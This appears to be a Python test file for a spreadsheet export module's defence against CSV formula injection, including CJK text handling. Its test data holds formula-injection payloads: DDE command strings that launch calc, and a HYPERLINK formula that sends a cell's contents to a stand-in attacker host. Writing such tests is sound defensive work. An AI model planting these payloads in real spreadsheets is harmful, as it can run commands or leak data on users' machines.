"""CSV/XLSX formula injection: dangerous cells are neutralised, everything else stays as it was."""
import csv
import io

import pytest

from config.spreadsheet import neutralize_cell, neutralize_row, write_csv


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1, \"点这里\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",  # fullwidth, typed with a CJK input method
        "-",
        "=",
    ],
)
def test_formula_like_text_is_prefixed_with_an_apostrophe(value):
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["商品分类选项", "图片中显示 = 号", "a=b", "user@example.com", "", " ", "-3", "+1.5", "-2.5e3", "12%",
     "1,234.5", 42, -7, 3.14, None, True],
)
def test_ordinary_values_are_untouched(value):
    assert neutralize_cell(value) == value


def test_neutralize_row():
    assert neutralize_row(["ok", "=1", 3, None]) == ["ok", "'=1", 3, None]


def test_write_csv_neutralises_header_and_cells_and_round_trips_cjk():
    buffer = io.StringIO(newline="")
    rows = [["s-1", "=cmd|' /C calc'!A0", "换货，退款\n第二行 \"引号\""], ["s-2", "@foo", 5]]
    assert write_csv(buffer, ["id", "=output", "note"], rows) == 2
    parsed = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert parsed == [
        ["id", "'=output", "note"],
        ["s-1", "'=cmd|' /C calc'!A0", "换货，退款\n第二行 \"引号\""],
        ["s-2", "'@foo", "5"],
    ]
    assert buffer.getvalue().endswith("\r\n")
